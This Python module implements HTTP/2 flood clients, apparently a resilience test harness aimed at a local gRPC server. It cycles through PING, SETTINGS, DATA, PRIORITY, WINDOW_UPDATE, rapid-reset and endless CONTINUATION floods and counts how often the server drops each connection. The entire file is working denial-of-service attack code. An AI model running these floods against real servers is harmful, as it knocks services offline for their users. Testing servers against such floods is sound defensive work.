"""Clients that flood a server with frames of HTTP/2 (RFC 9113) that cost them nothing."""

import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from itertools import count, cycle, islice, repeat

from h2.connection import H2Connection

_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/chatiere.v1.BatchService/Play"),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
# Frames sent at a time.
_MANY = 500
_CHUNK = 2**16
# The timeout of connecting, in seconds.
_PATIENCE = 10.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _resets(headers: bytes) -> Iterator[bytes]:
    for stream in count(3, 2):
        yield _frame(_HEADERS, _END_HEADERS, stream, headers) + _frame(_RST_STREAM, 0, stream, _CANCEL)


def _endless_headers(headers: bytes) -> Iterator[bytes]:
    yield _frame(_HEADERS, 0, 3, headers)
    yield from repeat(_frame(_CONTINUATION, 0, 3))


# Frames without end, made of a call's headers, beside an open call on stream 1.
FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
    "PING": lambda headers: repeat(_frame(_PING, 0, 0, bytes(8))),
    "SETTINGS": lambda headers: repeat(_frame(_SETTINGS, 0, 0)),
    "DATA": lambda headers: repeat(_frame(_DATA, 0, 1)),
    "PRIORITY": lambda headers: repeat(_frame(_PRIORITY, 0, 1, bytes(5))),
    "WINDOW_UPDATE": lambda headers: repeat(_frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "RST_STREAM": _resets,
    "CONTINUATION": _endless_headers,
}


class Flooder:
    """An attacker with one connection at a time: each floods with another kind of frame, until the server ends it."""

    def __init__(self, address: tuple[str, int], source: str, came: Counter[str]) -> None:
        """Connect. `source`: its own address; `came`: counts of what happens."""
        self._address, self._source, self._came = address, source, came
        self._kinds = cycle(FLOODS)
        self.connect()

    def connect(self) -> None:
        """Connect and begin a call."""
        self._kind = next(self._kinds)
        self.socket = socket.create_connection(self._address, _PATIENCE, source_address=(self._source, 0))
        http2 = H2Connection()
        http2.initiate_connection()
        http2.send_headers(1, _CALL)
        sent = http2.data_to_send()
        # The same once more is nothing but references to the table of header compression: it suits any further stream.
        http2.send_headers(3, _CALL)
        self._frames = FLOODS[self._kind](http2.data_to_send()[9:])
        self.socket.setblocking(False)
        self._left = memoryview(sent)
        self._came["begun"] += 1

    def send(self) -> None:
        """Send as much as the socket takes at once. Raise OSError if the server has ended the connection."""
        if not self._left:
            self._left = memoryview(b"".join(islice(self._frames, _MANY)))
        self._left = self._left[self.socket.send(self._left) :]

    def read(self) -> None:
        """Pass over what has arrived. Raise OSError if the server has ended the connection."""
        if not self.socket.recv(_CHUNK):
            raise ConnectionResetError

    def begin_again(self) -> None:
        """Connect again after the end of the connection."""
        self._came[f"{self._kind}: connection ended"] += 1
        self.socket.close()
        self.connect()


def flood(flooders: list[Flooder], until: float) -> None:
    """Flood until a time of time.monotonic()."""
    with selectors.DefaultSelector() as selector:
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        for flooder in flooders:
            selector.register(flooder.socket, both, flooder)
        while (left := until - time.monotonic()) > 0:
            for key, events in selector.select(left):
                flooder = key.data
                try:
                    if events & selectors.EVENT_READ:
                        flooder.read()
                    if events & selectors.EVENT_WRITE:
                        flooder.send()
                except BlockingIOError:
                    continue
                except OSError:
                    selector.unregister(flooder.socket)
                    flooder.begin_again()
                    selector.register(flooder.socket, both, flooder)
    for flooder in flooders:
        flooder.socket.close()
